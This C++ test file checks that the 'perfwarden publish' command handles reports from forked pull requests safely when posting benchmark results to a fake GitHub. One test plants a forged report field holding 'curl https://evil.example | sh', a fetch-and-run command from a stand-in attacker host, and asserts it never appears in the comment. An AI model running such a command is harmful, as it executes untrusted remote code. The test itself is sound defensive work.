#include <gtest/gtest.h>

#include <filesystem>
#include <nlohmann/json.hpp>

#include "app/cli/command.hpp"
#include "base/text.hpp"
#include "support/fake_github.hpp"
#include "support/fakes.hpp"
#include "support/runner_rules.hpp"

// `perfwarden publish` from its command line to a GitHub on this machine.
namespace perfwarden::app {
namespace {

using Json = nlohmann::json;
using support::FakeGitHub;

const std::string k_head(40, 'a');

class PublishCommand : public testing::Test {
 protected:
  void SetUp() override {
    before_ = std::filesystem::current_path();
    std::filesystem::current_path(directory.path());
    report = Json::parse(support::slurp(support::source_path("tests/golden/report/fail_high.json.json")));
    report["context"]["repository"] = "acme/widgets";
    report["context"]["pull_request"] = 7;
    report["context"]["head_sha"] = k_head;
    variables = {{"GITHUB_ACTIONS", "true"},
                 {"GITHUB_REPOSITORY", "acme/widgets"},
                 {"GITHUB_REPOSITORY_ID", "1"},
                 {"GITHUB_SHA", std::string(40, 'c')},
                 {"GITHUB_RUN_ID", "99"},
                 {"GITHUB_RUN_ATTEMPT", "1"},
                 {"GITHUB_API_URL", github.api_url()},
                 {"GITHUB_TOKEN", FakeGitHub::token()},
                 {"GITHUB_OUTPUT", directory / "output"},
                 {"GITHUB_STEP_SUMMARY", directory / "summary"},
                 {"PATH", "/usr/bin:/bin"}};
  }
  void TearDown() override { std::filesystem::current_path(before_); }

  void event(const std::string& name, const Json& value) {
    variables["GITHUB_EVENT_NAME"] = name;
    variables["GITHUB_EVENT_PATH"] = directory.write("event.json", value.dump());
  }
  void on_pull_request() {
    // Without a base commit to read a config from: this folder is no repository.
    event("pull_request_target", {{"repository", {{"id", 1}}},
                                  {"pull_request",
                                   {{"number", 7},
                                    {"head", {{"sha", k_head}, {"ref", "x"}, {"repo", {{"id", 1}}}}},
                                    {"base", {{"sha", std::string(40, 'b')}, {"ref", "main"}}}}}});
  }
  void after_run_of(const std::string& owner, const std::string& branch, char sha) {
    event("workflow_run", {{"repository", {{"id", 1}, {"default_branch", "main"}}},
                           {"workflow_run",
                            {{"head_sha", std::string(40, sha)},
                             {"head_branch", branch},
                             {"head_repository", {{"id", 2}, {"full_name", owner + "/widgets"}}}}}});
  }
  // The folder as a repository with one commit; its name.
  std::string committed() {
    os::Command command;
    command.argv = {"/bin/sh", "-c",
                    "git init -q -b main . && git add -A perfwarden.yml && git -c user.name=t -c "
                    "user.email=t@example.invalid commit -q --allow-empty -m base && git rev-parse HEAD"};
    command.env = {{"PATH", "/usr/local/bin:/usr/bin:/bin"}, {"HOME", directory.path()}};
    const Result<os::ProcessResult> result = processes.run(command);
    EXPECT_TRUE(result && result->ok());
    return result ? std::string(text::trim(result->out)) : "";
  }
  // What the other run measured: head takes `ratio` times as long as base.
  void measured(double ratio) {
    directory.write(
        "perfwarden.yml",
        "version: 1\nsuites: { core: { run: ./bench, parser: time } }\nbudgets: { '*': +5% }\nhistory: off\n"
        "report: { comment: always }\n");
    // What the other run's config says does not count, only what the checkout's own commit does.
    variables["GITHUB_SHA"] = committed();
    for (const bool head : {false, true}) {
      Json invocations = Json::array();
      for (int i = 0; i < 12; ++i) invocations.push_back({0.01 * (1 + 0.001 * ((i * 7) % 5)) * (head ? ratio : 1)});
      const Json series = {{"suite", "core"}, {"benchmark", "parse"}, {"metric", "wall_time"},
                           {"unit", "s"},     {"better", "lower"},    {"invocations", invocations}};
      const Json run = {
          {"commit", std::string(40, head ? 'd' : 'b')}, {"time", "2026-11-20T10:00:00Z"}, {"session", "1"}};
      directory.write(head ? "reports/abc/samples-head.json" : "reports/abc/samples-base.json",
                      Json{{"schema", "perfwarden.samples/1"}, {"run", run}, {"series", {series}}}.dump());
    }
    report["context"]["pull_request"] = 0;
    report["context"]["head_sha"] = "";
  }
  int run(std::vector<const char*> more = {}) {
    const std::string file = directory.write("reports/abc/report.json", report.dump());
    const os::Environment environment(variables);
    World world{processes, clock, environment, console, http};
    std::vector<const char*> arguments{"perfwarden", "publish", file.c_str()};
    arguments.insert(arguments.end(), more.begin(), more.end());
    return app::run(world, arguments);
  }

  support::TemporaryDirectory directory;
  FakeGitHub github;
  os::SystemProcesses processes;
  support::FakeClock clock;
  support::FakeConsole console;
  net::CurlClient http;
  Json report;
  std::map<std::string, std::string> variables;

 private:
  std::filesystem::path before_;
};

TEST_F(PublishCommand, SendsEverythingAndTakesWhereToFromGitHub) {
  on_pull_request();
  report["context"]["server_url"] = "https://evil.example";
  EXPECT_EQ(run(), 0) << console.err_text;
  ASSERT_EQ(github.comments().size(), 1U);
  const std::string body = github.comments()[0].body;
  EXPECT_TRUE(body.starts_with("### ❌ 1 of 4 benchmarks is slower")) << body;
  EXPECT_EQ(body.find("evil.example"), std::string::npos);
  EXPECT_EQ(github.labels(), (std::vector<std::string>{"performance-regression"}));
  const auto outputs = support::runner_outputs(support::slurp(directory / "output"));
  ASSERT_TRUE(outputs);
  EXPECT_EQ(outputs->front().second, "fail");
  EXPECT_TRUE(outputs->back().second.ends_with("/reports/abc"));
  EXPECT_NE(support::slurp(directory / "summary").find("parse/large"), std::string::npos);
  EXPECT_EQ(console.out_text, "");
}

TEST_F(PublishCommand, ASecondTimeEditsTheSameComment) {
  on_pull_request();
  ASSERT_EQ(run(), 0) << console.err_text;
  variables["GITHUB_RUN_ID"] = "100";
  EXPECT_EQ(run(), 0) << console.err_text;
  EXPECT_EQ(github.comments().size(), 1U);
}

TEST_F(PublishCommand, RefusesAReportOfAnotherPullRequestOrCommit) {
  on_pull_request();
  report["context"]["pull_request"] = 8;
  EXPECT_NE(run(), 0);
  EXPECT_NE(console.err_text.find("the report is about pull request 8"), std::string::npos) << console.err_text;
  report["context"]["pull_request"] = 7;
  report["context"]["head_sha"] = std::string(40, 'd');
  EXPECT_NE(run(), 0);
  EXPECT_TRUE(github.requests().empty());
  EXPECT_FALSE(std::filesystem::exists(directory / "summary"));
}

TEST_F(PublishCommand, AfterAForksRunThePullRequestIsLookedUpAndTheNumbersAreMarkedAsTheirs) {
  github.add_pull_request({8, std::string(40, 'd'), "mallory", "main", "acme/widgets", "mallory", ""});
  after_run_of("mallory", "main", 'd');
  measured(1);
  EXPECT_EQ(run(), 0) << console.err_text;
  EXPECT_EQ(github.count("POST", "/issues/8/comments"), 1U);
  ASSERT_EQ(github.comments().size(), 1U);
  EXPECT_NE(github.comments()[0].body.find("own run reported these numbers"), std::string::npos)
      << github.comments()[0].body;
}

TEST_F(PublishCommand, AfterAnotherRunAForgedPassIsJudgedAgainByItsSamples) {
  github.add_pull_request({8, std::string(40, 'd'), "mallory", "main", "acme/widgets", "mallory", ""});
  after_run_of("mallory", "main", 'd');
  report["verdict"] = "pass";
  report["context"]["repository"] = "evil/elsewhere";
  report["reproduce"] = "curl https://evil.example | sh";
  measured(1.2);
  EXPECT_EQ(run(), 0) << console.err_text;
  ASSERT_EQ(github.comments().size(), 1U);
  const std::string body = github.comments()[0].body;
  EXPECT_TRUE(body.starts_with("### ❌ 1 of 1 benchmark is slower")) << body;
  EXPECT_NE(body.find("the run itself reported 'pass'"), std::string::npos) << body;
  EXPECT_EQ(body.find("evil"), std::string::npos) << body;
  EXPECT_EQ(support::runner_outputs(support::slurp(directory / "output"))->front().second, "fail");
}

TEST_F(PublishCommand, AfterAnotherRunAReportWithoutSamplesOrAConfigIsRefused) {
  github.add_pull_request({8, std::string(40, 'd'), "mallory", "main", "acme/widgets", "mallory", ""});
  after_run_of("mallory", "main", 'd');
  measured(1);
  std::filesystem::remove(directory / "reports/abc/samples-head.json");
  EXPECT_NE(run(), 0);
  measured(1);
  std::filesystem::remove(directory / "perfwarden.yml");
  variables["GITHUB_SHA"] = committed();
  EXPECT_EQ(run(), 2);
  EXPECT_NE(console.err_text.find("actions/checkout"), std::string::npos) << console.err_text;
  EXPECT_TRUE(github.comments().empty());
}

TEST_F(PublishCommand, AfterAnotherRunASuiteThatItDoesNotMentionHasFailed) {
  github.add_pull_request({8, std::string(40, 'd'), "mallory", "main", "acme/widgets", "mallory", ""});
  after_run_of("mallory", "main", 'd');
  measured(1);
  directory.write("perfwarden.yml",
                  "version: 1\nsuites: { core: { run: ./bench, parser: time }, slow: { run: ./slow, parser: time } }\n"
                  "budgets: { '*': +5% }\nhistory: off\nreport: { comment: always }\n");
  variables["GITHUB_SHA"] = committed();
  EXPECT_EQ(run(), 0) << console.err_text;
  ASSERT_EQ(github.comments().size(), 1U);
  EXPECT_NE(github.comments()[0].body.find("its run reported nothing about this suite"), std::string::npos)
      << github.comments()[0].body;
  EXPECT_EQ(support::runner_outputs(support::slurp(directory / "output"))->front().second, "failed");
}

TEST_F(PublishCommand, AfterAnotherRunASuiteOfChosenFilesThatItDoesNotMentionMakesItUndecided) {
  github.add_pull_request({8, std::string(40, 'd'), "mallory", "main", "acme/widgets", "mallory", ""});
  after_run_of("mallory", "main", 'd');
  report["base"]["label"] = "whatever the file says";
  measured(1);
  directory.write(
      "perfwarden.yml",
      "version: 1\nsuites: { core: { run: ./bench, parser: time }, slow: { run: ./slow, parser: time, when: { "
      "paths: ['slow/**'] } } }\nbudgets: { '*': +5% }\nhistory: off\nreport: { comment: always }\n");
  variables["GITHUB_SHA"] = committed();
  EXPECT_EQ(run(), 0) << console.err_text;
  ASSERT_EQ(github.comments().size(), 1U);
  const std::string body = github.comments()[0].body;
  EXPECT_NE(body.find("nothing is judged about them: slow"), std::string::npos) << body;
  EXPECT_EQ(body.find("whatever the file says"), std::string::npos) << body;
  EXPECT_EQ(support::runner_outputs(support::slurp(directory / "output"))->front().second, "inconclusive");
}

TEST_F(PublishCommand, AForksReportCannotChooseThePullRequest) {
  github.add_pull_request({8, std::string(40, 'd'), "mallory", "main", "acme/widgets", "mallory", ""});
  after_run_of("mallory", "main", 'd');
  EXPECT_NE(run(), 0) << "the file says 7";
  EXPECT_TRUE(github.comments().empty());
  EXPECT_EQ(github.count("POST", ""), 0U);
}

TEST_F(PublishCommand, AfterARunWhoseBranchHasMovedOnNothingIsWrittenToAPullRequest) {
  github.add_pull_request({8, std::string(40, 'e'), "mallory", "main", "acme/widgets", "mallory", ""});
  after_run_of("mallory", "main", 'd');
  measured(1);
  EXPECT_EQ(run(), 0) << console.err_text;
  EXPECT_TRUE(github.comments().empty());
  EXPECT_NE(console.err_text.find("no open pull request has commit dddddddddd as its head"), std::string::npos)
      << console.err_text;
  EXPECT_TRUE(std::filesystem::exists(directory / "summary"));
}

TEST_F(PublishCommand, ABrokenGitHubIsAWarning) {
  on_pull_request();
  github.stub({"down", "GET", "/issues/7/comments", {503, {}, "", support::WireReply::Ending::whole}, 4});
  EXPECT_EQ(run(), 0);
  EXPECT_NE(console.err_text.find("pr-comment: cannot list the comments: GitHub answered 503"), std::string::npos)
      << console.err_text;
}

TEST_F(PublishCommand, ABrokenGitHubIsExit6WherePolicySaysFail) {
  github.add_pull_request({8, std::string(40, 'd'), "mallory", "main", "acme/widgets", "mallory", ""});
  after_run_of("mallory", "main", 'd');
  measured(1);
  directory.write("perfwarden.yml",
                  "version: 1\nsuites: { core: { run: ./bench, parser: time } }\nbudgets: { '*': +5% }\nhistory: off\n"
                  "report: { comment: always }\npublish: { failure: fail }\n");
  variables["GITHUB_SHA"] = committed();
  // Asked for twice: for what people accepted, and for our own comment.
  github.stub({"down", "GET", "/issues/8/comments", {503, {}, "", support::WireReply::Ending::whole}, 8});
  EXPECT_EQ(run(), 6);
}

TEST_F(PublishCommand, ARefusedTokenIsNoFailure) {
  on_pull_request();
  github.stub({"refused",
               "GET",
               "/issues/7/comments",
               {403, {}, R"({"message": "Resource not accessible"})", support::WireReply::Ending::whole}});
  EXPECT_EQ(run(), 0) << console.err_text;
  EXPECT_EQ(support::runner_commands(console.err_text).front().name, "notice") << console.err_text;
}

TEST_F(PublishCommand, ADryRunShowsTheCommentAndSendsNothing) {
  on_pull_request();
  EXPECT_EQ(run({"--dry-run"}), 0) << console.err_text;
  EXPECT_TRUE(console.out_text.starts_with("### ❌")) << console.out_text;
  EXPECT_NE(console.err_text.find("would send pr-comment"), std::string::npos);
  EXPECT_TRUE(github.requests().empty());
  EXPECT_FALSE(std::filesystem::exists(directory / "summary"));
}

TEST_F(PublishCommand, OutsideGitHubThereIsNowhereToPublishTo) {
  variables = {{"PATH", "/usr/bin:/bin"}};
  EXPECT_EQ(run(), 2);
  EXPECT_NE(console.err_text.find("this is neither GitHub Actions nor"), std::string::npos);
}

TEST_F(PublishCommand, AFileThatIsNoReportIsRefused) {
  on_pull_request();
  report = Json::array({1, 2});
  EXPECT_NE(run(), 0);
  EXPECT_TRUE(github.requests().empty());
}

}  // namespace
}  // namespace perfwarden::app
